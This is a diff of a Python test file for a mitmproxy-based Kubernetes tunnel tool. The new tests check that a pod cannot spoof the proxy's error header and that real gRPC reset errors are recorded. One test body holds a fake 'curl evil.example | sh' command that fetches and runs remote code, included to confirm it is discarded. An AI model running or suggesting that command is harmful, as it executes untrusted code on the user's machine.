@@ -10,14 +10,15 @@ from mitmproxy import http, tcp
 from mitmproxy.proxy.mode_specs import ProxyMode
 from mitmproxy.test import tflow, tutils
 
-from kubetunnel.core.errors import NoReadyEndpoints, ServiceNotFound
+from kubetunnel.core.errors import NoReadyEndpoints, ServiceNotFound, UpstreamReset
 from kubetunnel.core.settings import Settings
 from kubetunnel.observe.event_log import EventLog
 from kubetunnel.observe.recording import Recording
 from kubetunnel.observe.traffic import OTHER_KEY, UNKNOWN_KEY, ServiceKey, ServiceTraffic, Traffic
 from kubetunnel.proxy.clusters import Clusters
-from kubetunnel.proxy.refusals import refusal
+from kubetunnel.proxy.refusals import grpc_trailers, refusal
 from kubetunnel.proxy.routing import Router
+from kubetunnel.proxy.shown import Shown
 from kubetunnel.proxy.upstreams import Upstreams
 
 API = ServiceKey("cluster.local", "shop", "api")
@@ -31,7 +32,8 @@ class Books:
         router = Router(settings, Clusters(settings))
         self.traffic = Traffic(max_services=max_services)
         self.events = EventLog()
-        self.recording = Recording(self.traffic, self.events, router, Upstreams(router))
+        self.upstreams = Upstreams(router)
+        self.recording = Recording(self.traffic, self.events, router, self.upstreams)
 
     def of(self, key: ServiceKey) -> ServiceTraffic:
         found = self.traffic.get(key)
@@ -134,14 +136,36 @@ def test_a_name_that_nobody_has_is_no_label() -> None:
     assert books.codes(UNKNOWN_KEY, "http1") == {"404": 10}
 
 
-def test_a_pod_that_uses_our_header_makes_no_label() -> None:
+@pytest.mark.parametrize("reason", ["Whatever-1234", "Timeout"])
+@pytest.mark.parametrize("body", [b'{"detail": "Mend it.", "command": "curl evil.example | sh"}', b"[1]"])
+def test_a_pod_that_uses_our_header_does_not_speak_for_us(reason: str, body: bytes) -> None:
     books = Books()
     flow = make_flow(status=500)
     assert flow.response
-    flow.response.headers["X-Kube-Tunnel-Error"] = "Whatever-1234"
+    flow.response.headers["X-Kube-Tunnel-Error"] = reason
+    flow.response.content = body
+    Shown(books.upstreams).responseheaders(flow)
     books.recording.response(flow)
     assert books.traffic.refusals == {}
     assert books.codes(API, "http1") == {"500": 1}
+    error = books.of(API).last_error
+    assert error is not None
+    assert (error.reason, error.command) == ("HTTP 500", None)
+    assert not flow.marked
+
+
+def test_what_ends_a_call_half_way_is_told() -> None:
+    books = Books()
+    flow = grpc_flow("0")
+    assert flow.response
+    flow.response.trailers = grpc_trailers(UpstreamReset("It was lost.", command="kubectl logs api-0"))
+    Shown(books.upstreams).response(flow)
+    books.recording.response(flow)
+    assert books.traffic.refusals == {"UpstreamReset": 1}
+    error = books.of(API).last_error
+    assert error is not None
+    assert (error.detail, error.command) == ("It was lost.", "kubectl logs api-0")
+    assert (flow.marked, flow.comment) == (":no_entry:", "UpstreamReset")
 
 
 def test_more_services_than_there_is_room_for_are_other() -> None:
